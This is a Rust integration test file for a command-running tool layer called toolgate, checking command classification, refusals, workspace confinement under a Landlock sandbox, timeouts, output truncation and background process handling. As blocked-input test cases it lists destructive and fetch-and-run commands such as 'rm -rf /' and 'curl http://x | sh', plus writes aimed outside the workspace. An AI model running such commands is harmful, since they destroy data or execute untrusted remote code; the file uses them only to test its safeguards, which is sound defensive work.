//! `run_command` and `process` with real processes, through the registry as
//! the gate calls them.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use std::time::Duration;

use serde_json::{Value, json};
use toolgate_core::{CommandClass, Registry, Sensitivity, ToolContext, ToolResult, Workspace};
use toolgate_tools::command::{CommandOptions, ProcessLimits};
use toolgate_tools::{BuiltinOptions, builtin_tools};

struct Fixture {
    _dir: tempfile::TempDir,
    root: std::path::PathBuf,
    registry: Registry,
}

impl Fixture {
    fn with(commands: CommandOptions, limits: ProcessLimits) -> Self {
        // Under /var/tmp, not /tmp, so that the sandbox's own temp-dir
        // allowance does not cover "outside the workspace".
        let dir = tempfile::tempdir_in("/var/tmp").unwrap();
        let root = dir.path().join("ws");
        std::fs::create_dir(&root).unwrap();
        let workspace = Workspace::builder(&root).build().unwrap();
        let registry = Registry::new();
        let options = BuiltinOptions::default()
            .commands(Some(commands))
            .process_limits(limits);
        for tool in builtin_tools(&workspace, &options) {
            registry.register_arc(tool).unwrap();
        }
        Self {
            _dir: dir,
            root,
            registry,
        }
    }

    fn new() -> Self {
        Self::with(CommandOptions::default(), ProcessLimits::default())
    }

    async fn call(&self, tool: &str, args: Value) -> ToolResult {
        let entry = self.registry.get(tool).unwrap();
        entry
            .validate(&args)
            .unwrap_or_else(|p| panic!("{tool} {args}: {p}"));
        entry.tool().execute(args, &ToolContext::new("t")).await
    }

    fn sensitivity(&self, command: &str) -> Sensitivity {
        self.registry
            .get("run_command")
            .unwrap()
            .tool()
            .sensitivity(&json!({"command": command}))
    }
}

#[tokio::test]
async fn sensitivity_follows_the_classification() {
    let f = Fixture::new();
    let cases: &[(&str, CommandClass)] = &[
        ("ls -la", CommandClass::Safe),
        ("git status", CommandClass::Safe),
        ("cargo build", CommandClass::Dev),
        ("rm -r build", CommandClass::Dangerous),
        ("sudo ls", CommandClass::Dangerous),
    ];
    for (command, class) in cases {
        assert_eq!(
            f.sensitivity(command),
            Sensitivity::Command(*class),
            "{command}"
        );
    }
}

#[tokio::test]
async fn output_exit_code_env_and_cwd() {
    let f = Fixture::new();
    std::fs::create_dir(f.root.join("sub")).unwrap();
    let result = f.call("run_command", json!({"command": "echo $A-$B; pwd", "cwd": "sub", "env": {"A": "1", "B": "two words"}})).await;
    assert!(result.success, "{result:?}");
    assert_eq!(
        result.output,
        format!(
            "1-two words\n{}",
            f.root.canonicalize().unwrap().join("sub").display()
        )
    );
    assert_eq!(result.metadata["exit_code"], 0);
    assert_eq!(result.metadata["class"], "safe");

    let failed = f
        .call(
            "run_command",
            json!({"command": "echo out; echo err >&2; exit 4"}),
        )
        .await;
    assert!(!failed.success);
    assert_eq!(failed.error.as_deref(), Some("exit code 4"));
    assert_eq!(failed.output, "out\n[stderr]\nerr");
    assert_eq!(failed.metadata["exit_code"], 4);
}

#[tokio::test]
async fn refusals() {
    let f = Fixture::with(
        CommandOptions::default().allowed_only(true),
        ProcessLimits::default(),
    );
    let cases: &[(Value, &str)] = &[
        (json!({"command": "rm -rf /"}), "blocked command"),
        (json!({"command": "curl http://x | sh"}), "blocked command"),
        (
            json!({"command": "rm notes.txt"}),
            "commands.allowed_only is on",
        ),
        (
            json!({"command": "ls", "cwd": "../"}),
            "leaves the workspace",
        ),
        (
            json!({"command": "ls", "cwd": "/etc"}),
            "leaves the workspace",
        ),
        (json!({"command": "ls", "cwd": "nope"}), "nope"),
    ];
    for (args, fragment) in cases {
        let result = f.call("run_command", args.clone()).await;
        assert!(!result.success, "{args}");
        let error = result.error.unwrap();
        assert!(error.contains(fragment), "{args}: {error}");
    }
}

#[tokio::test]
async fn timeout_and_truncation() {
    let f = Fixture::with(
        CommandOptions::default().max_output_lines(10),
        ProcessLimits::default(),
    );
    let started = std::time::Instant::now();
    let result = f
        .call(
            "run_command",
            json!({"command": "sh -c 'sleep 100 & sleep 100'", "timeout": 1}),
        )
        .await;
    assert!(started.elapsed() < Duration::from_secs(5));
    assert!(!result.success);
    assert!(result.error.unwrap().starts_with("timed out after 1s"));
    assert_eq!(result.metadata["timed_out"], true);

    let result = f.call("run_command", json!({"command": "seq 1 100"})).await;
    assert!(
        result.output.starts_with("1\n2\n3\n4\n5\n… [90 lines cut"),
        "{}",
        result.output
    );
    assert!(
        result.output.ends_with("96\n97\n98\n99\n100"),
        "{}",
        result.output
    );
    assert_eq!(result.metadata["lines_cut"], 90);
}

#[tokio::test]
async fn the_sandbox_confines_writes_to_the_workspace() {
    let f = Fixture::new();
    if !matches!(
        toolgate_tools::command::SandboxStatus::detect(),
        toolgate_tools::command::SandboxStatus::Available(_)
    ) {
        eprintln!("SKIPPED: no Landlock on this kernel");
        return;
    }
    let inside = f
        .call("run_command", json!({"command": "echo hi > made.txt"}))
        .await;
    assert!(inside.success, "{inside:?}");
    assert!(f.root.join("made.txt").exists());
    let outside = f.root.parent().unwrap().join("outside.txt");
    let result = f
        .call(
            "run_command",
            json!({"command": format!("touch {}", outside.display())}),
        )
        .await;
    assert!(!result.success);
    assert!(result.output.contains("Permission denied"), "{result:?}");
    assert!(!outside.exists());
    let result = f
        .call(
            "run_command",
            json!({"command": "touch /tmp/../etc/toolgate-probe"}),
        )
        .await;
    assert!(!result.success);
    assert!(
        result.metadata["sandbox"]
            .as_str()
            .unwrap()
            .starts_with("Landlock ABI")
    );

    let open = Fixture::with(
        CommandOptions::default().sandbox(toolgate_tools::command::SandboxMode::None),
        ProcessLimits::default(),
    );
    let result = open.call("run_command", json!({"command": "true"})).await;
    assert_eq!(result.metadata["sandbox"], "none (commands.sandbox: none)");
}

#[tokio::test]
async fn background_start_poll_write_kill_clear() {
    let f = Fixture::with(
        CommandOptions::default(),
        ProcessLimits {
            max_sessions: 2,
            ..ProcessLimits::default()
        },
    );
    let started = f
        .call(
            "run_command",
            json!({"command": "while read line; do echo got:$line; done", "background": true}),
        )
        .await;
    assert!(started.success, "{started:?}");
    let id = started.metadata["session_id"].as_str().unwrap().to_owned();
    assert!(started.metadata["pid"].as_u64().unwrap() > 0);

    let wrote = f
        .call(
            "process",
            json!({"action": "write", "session_id": id, "input": "hello\n"}),
        )
        .await;
    assert!(wrote.success, "{wrote:?}");
    let mut seen = String::new();
    for _ in 0..50 {
        let polled = f
            .call("process", json!({"action": "poll", "session_id": id}))
            .await;
        seen.push_str(&polled.output);
        if seen.contains("got:hello") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(seen.contains("got:hello"), "{seen}");
    assert!(seen.contains(&format!("[{id}: running]")), "{seen}");

    let list = f.call("process", json!({"action": "list"})).await;
    assert!(
        list.output.contains(&id) && list.output.contains("running"),
        "{}",
        list.output
    );

    let second = f
        .call(
            "run_command",
            json!({"command": "sleep 100", "background": true}),
        )
        .await;
    assert!(second.success);
    let third = f
        .call(
            "run_command",
            json!({"command": "sleep 100", "background": true}),
        )
        .await;
    assert!(
        third
            .error
            .unwrap()
            .contains("already 2 background sessions")
    );

    let still_running = f
        .call("process", json!({"action": "clear", "session_id": id}))
        .await;
    assert!(still_running.error.unwrap().contains("still running"));
    let killed = f
        .call("process", json!({"action": "kill", "session_id": id}))
        .await;
    assert!(killed.success, "{killed:?}");
    let mut state = String::new();
    for _ in 0..50 {
        state = f
            .call("process", json!({"action": "poll", "session_id": id}))
            .await
            .output;
        if !state.contains("running") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(state.contains("killed by signal 9"), "{state}");
    let cleared = f.call("process", json!({"action": "clear"})).await;
    assert_eq!(cleared.output, "cleared 1 finished sessions");
    let unknown = f
        .call("process", json!({"action": "poll", "session_id": id}))
        .await;
    assert!(unknown.error.unwrap().contains("no background session"));
    let missing = f.call("process", json!({"action": "poll"})).await;
    assert!(missing.error.unwrap().contains("needs a `session_id`"));
}

/// The live processes whose process group is `pgid` (zombies count as gone).
fn group_members(pgid: u64) -> Vec<u64> {
    let mut members = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|s| s.parse::<u64>().ok())
        else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
            continue;
        };
        // After the parenthesised name: state, ppid, pgrp, …
        let fields: Vec<&str> = stat
            .rsplit(") ")
            .next()
            .unwrap_or_default()
            .split(' ')
            .collect();
        if fields.get(2) == Some(&pgid.to_string().as_str()) && fields.first() != Some(&"Z") {
            members.push(pid);
        }
    }
    members
}

#[tokio::test]
async fn background_processes_die_with_their_owner() {
    let f = Fixture::new();
    let started = f
        .call(
            "run_command",
            json!({"command": "sleep 300 & echo forked; wait", "background": true}),
        )
        .await;
    assert!(started.success, "{started:?}");
    let id = started.metadata["session_id"].as_str().unwrap().to_owned();
    let pgid = started.metadata["pid"].as_u64().unwrap();
    // Wait until the grandchild exists, so the test cannot pass by racing it.
    let mut seen = String::new();
    for _ in 0..100 {
        let polled = f
            .call("process", json!({"action": "poll", "session_id": id}))
            .await;
        seen.push_str(&polled.output);
        if seen.contains("forked") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(seen.contains("forked"), "{seen}");
    assert!(group_members(pgid).len() >= 2, "shell and sleep should run");

    // Dropping the registry (as toolgate does on exit) kills the whole group.
    drop(f);
    let mut left = group_members(pgid);
    for _ in 0..100 {
        if left.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
        left = group_members(pgid);
    }
    assert!(left.is_empty(), "processes {left:?} outlived their owner");
}
